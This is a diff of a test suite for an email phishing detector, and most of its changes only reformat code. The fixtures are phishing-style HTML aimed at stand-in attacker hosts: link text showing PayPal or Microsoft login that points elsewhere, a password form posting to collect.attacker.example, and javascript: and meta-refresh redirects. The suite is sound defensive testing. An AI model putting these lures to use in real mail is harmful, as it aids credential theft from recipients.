@@ -3,15 +3,23 @@ import { analyzeEmail } from '../../src/email/index.js';
 import { eml } from '../helpers/eml.js';
 import { expectAbsent, expectFires } from '../helpers/verdict.js';
 
-const scan = (html: string, text?: string) => analyzeEmail(eml({ html, ...(text ? { text } : {}) }), { scorer: null });
+const scan = (html: string, text?: string) =>
+  analyzeEmail(eml({ html, ...(text ? { text } : {}) }), { scorer: null });
 
 describe('email.link.text_href_mismatch', () => {
   const ID = 'email.link.text_href_mismatch';
   it('fires when the text shows one site and the link goes to another', async () => {
-    const v = await scan('<p><a href="http://198.51.100.23/owa/login.php">https://login.microsoftonline.com/</a></p>');
+    const v = await scan(
+      '<p><a href="http://198.51.100.23/owa/login.php">https://login.microsoftonline.com/</a></p>',
+    );
     expect(expectFires(v, ID)).toMatchObject({
       severity: 'high',
-      evidence: [{ where: 'body:html', text: '"https://login.microsoftonline.com/" -> http://198.51.100.23/owa/login.php' }],
+      evidence: [
+        {
+          where: 'body:html',
+          text: '"https://login.microsoftonline.com/" -> http://198.51.100.23/owa/login.php',
+        },
+      ],
     });
     const v2 = await scan('<a href="https://secure-login.attacker.example/pp">www.paypal.com</a>');
     expect(expectFires(v2, ID).message).toContain('paypal.com');
@@ -29,8 +37,13 @@ describe('email.link.text_href_mismatch', () => {
 describe('email.link.obfuscated_url', () => {
   const ID = 'email.link.obfuscated_url';
   it('fires on defanged URLs a reader would re-arm', async () => {
-    const v = await analyzeEmail(eml({ text: 'Open hxxps://invoice-portal[.]attacker.example/view to see it.' }));
-    expect(expectFires(v, ID)).toMatchObject({ severity: 'medium', evidence: [{ where: 'body:text', text: 'https://invoice-portal.attacker.example/view' }] });
+    const v = await analyzeEmail(
+      eml({ text: 'Open hxxps://invoice-portal[.]attacker.example/view to see it.' }),
+    );
+    expect(expectFires(v, ID)).toMatchObject({
+      severity: 'medium',
+      evidence: [{ where: 'body:text', text: 'https://invoice-portal.attacker.example/view' }],
+    });
   });
   it('stays silent for ordinary URLs and brackets', async () => {
     const v = await analyzeEmail(eml({ text: 'See https://docs.sender.example/guide [1] and (see above).' }));
@@ -41,7 +54,9 @@ describe('email.link.obfuscated_url', () => {
 describe('email.link.form_in_body', () => {
   const ID = 'email.link.form_in_body';
   it('is critical for a form with a password field', async () => {
-    const v = await scan('<form action="https://collect.attacker.example/p.php"><input name="u"><input type="password" name="p"></form>');
+    const v = await scan(
+      '<form action="https://collect.attacker.example/p.php"><input name="u"><input type="password" name="p"></form>',
+    );
     expect(expectFires(v, ID)).toMatchObject({ severity: 'critical' });
     expect(v.score).toBeGreaterThanOrEqual(0.95);
   });
@@ -57,14 +72,24 @@ describe('email.link.form_in_body', () => {
 describe('email.link.meta_refresh and email.link.script_url', () => {
   it('fires on a meta refresh', async () => {
     const v = await scan('<meta http-equiv="refresh" content="0; url=https://landing.attacker.example/">hi');
-    expect(expectFires(v, 'email.link.meta_refresh').evidence[0]?.text).toBe('https://landing.attacker.example/');
+    expect(expectFires(v, 'email.link.meta_refresh').evidence[0]?.text).toBe(
+      'https://landing.attacker.example/',
+    );
   });
   it('fires high on data: links, low on javascript: links, and not on data: images', async () => {
     const v = await scan('<a href="javascript:location=\'https://x.attacker.example\'">Open</a>');
     // mail clients do not run javascript: links (2007 newsletters used them for pop-ups): context only
     expect(expectFires(v, 'email.link.script_url').severity).toBe('low');
-    const data = await scan('<a href="javascript:void(0)">a</a><a href="data:text/html;base64,PGgxPkxvZ2luPC9oMT4=">Open the document</a>');
-    expect(expectFires(data, 'email.link.script_url')).toMatchObject({ severity: 'high', evidence: [{ text: '"Open the document" -> data:text/html;base64,PGgxPkxvZ2luPC9oMT4=' }, { text: '"a" -> javascript:void(0)' }] });
+    const data = await scan(
+      '<a href="javascript:void(0)">a</a><a href="data:text/html;base64,PGgxPkxvZ2luPC9oMT4=">Open the document</a>',
+    );
+    expect(expectFires(data, 'email.link.script_url')).toMatchObject({
+      severity: 'high',
+      evidence: [
+        { text: '"Open the document" -> data:text/html;base64,PGgxPkxvZ2luPC9oMT4=' },
+        { text: '"a" -> javascript:void(0)' },
+      ],
+    });
     const img = await scan('<img src="data:image/png;base64,iVBORw0KGgo=">');
     expectAbsent(img, 'email.link.script_url');
     expectAbsent(img, 'email.link.meta_refresh');
@@ -73,44 +98,95 @@ describe('email.link.meta_refresh and email.link.script_url', () => {
 
 // ---- link rewriters: the destination is judged, the gateway's host is not evidence
 const enc = encodeURIComponent;
-const ppV2 = (u: string) => enc(u).replace(/%2F/g, '/').replace(/-/g, '%2D').replace(/_/g, '%5F').replace(/%/g, '-').replace(/\//g, '_');
+const ppV2 = (u: string) =>
+  enc(u)
+    .replace(/%2F/g, '/')
+    .replace(/-/g, '%2D')
+    .replace(/_/g, '%5F')
+    .replace(/%/g, '-')
+    .replace(/\//g, '_');
 const REWRITERS: [string, (dest: string) => string][] = [
-  ['safelinks', (d) => `https://nam12.safelinks.protection.outlook.com/?url=${enc(d)}&data=05%7C02%7Cx&sdata=AbC%3D&reserved=0`],
+  [
+    'safelinks',
+    (d) =>
+      `https://nam12.safelinks.protection.outlook.com/?url=${enc(d)}&data=05%7C02%7Cx&sdata=AbC%3D&reserved=0`,
+  ],
   ['proofpoint v1', (d) => `https://urldefense.proofpoint.com/v1/url?u=${enc(d)}&k=abc%3D%0A&r=x`],
-  ['proofpoint v2', (d) => `https://urldefense.proofpoint.com/v2/url?u=${ppV2(d)}&d=DwMFaQ&c=abc&r=def&m=ghi&s=jkl&e=`],
+  [
+    'proofpoint v2',
+    (d) => `https://urldefense.proofpoint.com/v2/url?u=${ppV2(d)}&d=DwMFaQ&c=abc&r=def&m=ghi&s=jkl&e=`,
+  ],
   ['proofpoint v3', (d) => `https://urldefense.com/v3/__${d}__;!!ABcdEF!GhIjKl$`],
   ['barracuda', (d) => `https://linkprotect.cudasvc.com/url?a=${enc(d)}&c=E,1,AbCd,&typo=1`],
   ['google', (d) => `https://www.google.com/url?q=${enc(d)}&sa=D&ust=1&usg=AOvVaw0`],
-  ['trend micro', (d) => `https://imsva91-ctp.trendmicro.com/wis/clicktime/v1/query?url=${enc(d)}&umid=0a1b&auth=abc`],
-  ['sophos', (d) => `https://eu-central-1.protection.sophos.com?d=shop.example&u=${Buffer.from(d).toString('base64')}&i=a&t=b&h=c`],
+  [
+    'trend micro',
+    (d) => `https://imsva91-ctp.trendmicro.com/wis/clicktime/v1/query?url=${enc(d)}&umid=0a1b&auth=abc`,
+  ],
+  [
+    'sophos',
+    (d) =>
+      `https://eu-central-1.protection.sophos.com?d=shop.example&u=${Buffer.from(d).toString('base64')}&i=a&t=b&h=c`,
+  ],
   ['cisco', (d) => `https://secure-web.cisco.com/1AbCdEfGhIj/${enc(d)}`],
 ];
 const SEV = ['info', 'low', 'medium', 'high', 'critical'];
 /** Link, URL and domain signals at medium or above (what issue 9 says legitimate mail must not get). */
 const strongLinkSignals = (v: { signals: { id: string; severity: string }[] }) =>
-  v.signals.filter((s) => /^(email\.link|url|domain)\./.test(s.id) && SEV.indexOf(s.severity) >= 2).map((s) => `${s.id}:${s.severity}`);
+  v.signals
+    .filter((s) => /^(email\.link|url|domain)\./.test(s.id) && SEV.indexOf(s.severity) >= 2)
+    .map((s) => `${s.id}:${s.severity}`);
 
 describe('email.link.text_href_mismatch and click trackers', () => {
   const ID = 'email.link.text_href_mismatch';
   it.each([
-    ['an opaque tracker path', '<a href="http://clicks.mailservice.example/z/ct/?zWDOe9s9xz">http://www.internetpatrol.example</a>'],
-    ['a tracker that carries the shown URL', '<a href="http://rs6.example/tn.jsp?t=ipfoc9&p=http%3A%2F%2Fwww.genesearch.example">http://www.genesearch.example</a>'],
-    ['a tracking proxy', '<a href="http://cmgr.netcontent.example/chandler/proxy.aspx?lid=2F5296B8">www.infocast.example</a>'],
-    ["a site shown over its parent brand's domain", '<a href="http://www.newsnet.example/money/">NewsNetMoney.example</a>'],
+    [
+      'an opaque tracker path',
+      '<a href="http://clicks.mailservice.example/z/ct/?zWDOe9s9xz">http://www.internetpatrol.example</a>',
+    ],
+    [
+      'a tracker that carries the shown URL',
+      '<a href="http://rs6.example/tn.jsp?t=ipfoc9&p=http%3A%2F%2Fwww.genesearch.example">http://www.genesearch.example</a>',
+    ],
+    [
+      'a tracking proxy',
+      '<a href="http://cmgr.netcontent.example/chandler/proxy.aspx?lid=2F5296B8">www.infocast.example</a>',
+    ],
+    [
+      "a site shown over its parent brand's domain",
+      '<a href="http://www.newsnet.example/money/">NewsNetMoney.example</a>',
+    ],
   ])('is context (low) for %s in front of an unprotected site', async (_, html) => {
     const v = await scan(html);
-    expect(expectFires(v, ID)).toMatchObject({ severity: 'low', message: expect.stringContaining('click tracker') });
+    expect(expectFires(v, ID)).toMatchObject({
+      severity: 'low',
+      message: expect.stringContaining('click tracker'),
+    });
   });
   it.each([
-    ['a protected brand shown over a tracker-shaped link', '<a href="http://clicks.mailservice.example/z/ct/?abc">https://www.paypal.com/signin</a>'],
-    ['an IP address behind a tracker-shaped path', '<a href="http://198.51.100.9/track/click?id=1">http://www.genesearch.example</a>'],
+    [
+      'a protected brand shown over a tracker-shaped link',
+      '<a href="http://clicks.mailservice.example/z/ct/?abc">https://www.paypal.com/signin</a>',
+    ],
+    [
+      'an IP address behind a tracker-shaped path',
+      '<a href="http://198.51.100.9/track/click?id=1">http://www.genesearch.example</a>',
+    ],
     ['a plain link elsewhere', '<a href="http://evil.example/login.php">http://www.mybank.example</a>'],
   ])('stays high for %s', async (_, html) => {
     expect(expectFires(await scan(html), ID).severity).toBe('high');
   });
   it('lets the worst link decide when trackers and a real mismatch mix', async () => {
-    const v = await scan('<a href="http://clicks.mailservice.example/z/ct/?a">http://www.news.example</a><a href="http://evil.example/x">https://www.paypal.com/</a>');
-    expect(expectFires(v, ID)).toMatchObject({ severity: 'high', evidence: [{ text: expect.stringContaining('evil.example') }, { text: expect.stringContaining('mailservice') }] });
+    const v = await scan(
+      '<a href="http://clicks.mailservice.example/z/ct/?a">http://www.news.example</a><a href="http://evil.example/x">https://www.paypal.com/</a>',
+    );
+    expect(expectFires(v, ID)).toMatchObject({
+      severity: 'high',
+      evidence: [
+        { text: expect.stringContaining('evil.example') },
+        { text: expect.stringContaining('mailservice') },
+      ],
+    });
   });
 });
 
@@ -122,21 +198,30 @@ describe('links behind link rewriters', () => {
     expect(expectFires(v, 'email.link.text_href_mismatch').message).toContain('198.51.100.23');
     expect(v.verdict).not.toBe('clean');
   });
-  it.each(REWRITERS)('keeps a benign destination behind %s as clean as without the wrapper', async (_, wrap) => {
-    const dests = ['https://www.shop.example/orders/1234', 'https://click.mail.shop.example/ls/click?upn=abc123', 'https://www.shop.example/email/preferences?u=8f3a2b'];
-    const html = (w: (d: string) => string) =>
-      `<p>Your order has shipped.</p><p><a href="${w(dests[0]!)}">www.shop.example</a> · <a href="${w(dests[1]!)}">Track it</a> ·
+  it.each(REWRITERS)(
+    'keeps a benign destination behind %s as clean as without the wrapper',
+    async (_, wrap) => {
+      const dests = [
+        'https://www.shop.example/orders/1234',
+        'https://click.mail.shop.example/ls/click?upn=abc123',
+        'https://www.shop.example/email/preferences?u=8f3a2b',
+      ];
+      const html = (w: (d: string) => string) =>
+        `<p>Your order has shipped.</p><p><a href="${w(dests[0]!)}">www.shop.example</a> · <a href="${w(dests[1]!)}">Track it</a> ·
        <a href="${w(dests[2]!)}">Manage preferences</a></p>`;
-    const from = 'Shop <orders@shop.example>';
-    const plain = await analyzeEmail(eml({ from, html: html((d) => d) }), { scorer: null });
-    const wrapped = await analyzeEmail(eml({ from, html: html(wrap) }), { scorer: null });
-    const ids = (v: typeof plain) => v.signals.map((s) => `${s.id}:${s.severity}`).sort();
-    expect(ids(wrapped)).toEqual(ids(plain));
-    expect(strongLinkSignals(wrapped)).toEqual([]);
-    expect(wrapped.verdict).toBe('clean');
-  });
+      const from = 'Shop <orders@shop.example>';
+      const plain = await analyzeEmail(eml({ from, html: html((d) => d) }), { scorer: null });
+      const wrapped = await analyzeEmail(eml({ from, html: html(wrap) }), { scorer: null });
+      const ids = (v: typeof plain) => v.signals.map((s) => `${s.id}:${s.severity}`).sort();
+      expect(ids(wrapped)).toEqual(ids(plain));
+      expect(strongLinkSignals(wrapped)).toEqual([]);
+      expect(wrapped.verdict).toBe('clean');
+    },
+  );
   it('treats an opaque Mimecast link as unknown: no mismatch with its text, no signal', async () => {
-    const v = await scan('<a href="https://protect-eu.mimecast.com/s/AbCdEfGhIjKlMnOp?domain=shop.example">www.shop.example</a>');
+    const v = await scan(
+      '<a href="https://protect-eu.mimecast.com/s/AbCdEfGhIjKlMnOp?domain=shop.example">www.shop.example</a>',
+    );
     expect(v.signals.filter((s) => /^(email\.link|url|domain)\./.test(s.id))).toEqual([]);
   });
 });
@@ -152,7 +237,7 @@ describe('legitimate look-alikes get no link signal of medium or higher', () => 
        <a href="https://www.shop.example/unsubscribe?u=8f3a2b">Unsubscribe</a>`,
     ],
     [
-      'a password reset on the sender\'s own domain',
+      "a password reset on the sender's own domain",
       'Shop <no-reply@shop.example>',
       `<p>Someone asked to reset your password.</p><a href="https://account.shop.example/login/reset-password?token=9f8e7d6c5b4a3f2e1d0c">Reset password</a>
        <p>Not you? <a href="https://www.shop.example/help">www.shop.example</a></p>`,
@@ -183,25 +268,43 @@ describe('legitimate look-alikes get no link signal of medium or higher', () => 
   });
 
   it('still flags a search-looking form that posts to another site, and any password form', async () => {
-    const away = await analyzeEmail(eml({ from: 'News <news@shop.example>', html: '<form action="https://collect.attacker.example/s"><input name="q"></form>' }), { scorer: null });
+    const away = await analyzeEmail(
+      eml({
+        from: 'News <news@shop.example>',
+        html: '<form action="https://collect.attacker.example/s"><input name="q"></form>',
+      }),
+      { scorer: null },
+    );
     expect(expectFires(away, 'email.link.form_in_body').severity).toBe('high');
-    const pw = await analyzeEmail(eml({ from: 'Shop <no-reply@shop.example>', html: '<form action="https://account.shop.example/login"><input name="u"><input type="password" name="p"></form>' }), { scorer: null });
+    const pw = await analyzeEmail(
+      eml({
+        from: 'Shop <no-reply@shop.example>',
+        html: '<form action="https://account.shop.example/login"><input name="u"><input type="password" name="p"></form>',
+      }),
+      { scorer: null },
+    );
     expect(expectFires(pw, 'email.link.form_in_body').severity).toBe('critical');
   });
 });
 
 describe("a link's shown text and its real destination are kept apart (issue 15, item 2)", () => {
-  const html = '<p>Sign in: <a href="javascript:location=\'http://198.51.100.9/pp\'">https://www.paypal.com/signin</a></p>';
+  const html =
+    '<p>Sign in: <a href="javascript:location=\'http://198.51.100.9/pp\'">https://www.paypal.com/signin</a></p>';
   it('judges the destination, not the URL written as the link text', async () => {
     const v = await scan(html);
     // the real paypal.com page in the text is what the reader is shown: it is no evidence itself
     expect(v.signals.map((s) => s.id)).not.toContain('url.path.credential_words');
     expect(expectFires(v, 'email.link.script_url')).toMatchObject({
       message: 'Link shows www.paypal.com but its destination is a javascript: URL',
-      evidence: [{ where: 'body:html', text: `"https://www.paypal.com/signin" -> javascript:location='http://198.51.100.9/pp'` }],
+      evidence: [
+        {
+          where: 'body:html',
+          text: `"https://www.paypal.com/signin" -> javascript:location='http://198.51.100.9/pp'`,
+        },
+      ],
     });
   });
-  it('still judges a URL that is written in the text and is not any link\'s shown text', async () => {
+  it("still judges a URL that is written in the text and is not any link's shown text", async () => {
     const v = await scan('<p>Sign in at http://198.51.100.9/login/verify today</p>');
     expect(v.signals.map((s) => s.id)).toContain('url.host.ip_literal');
   });
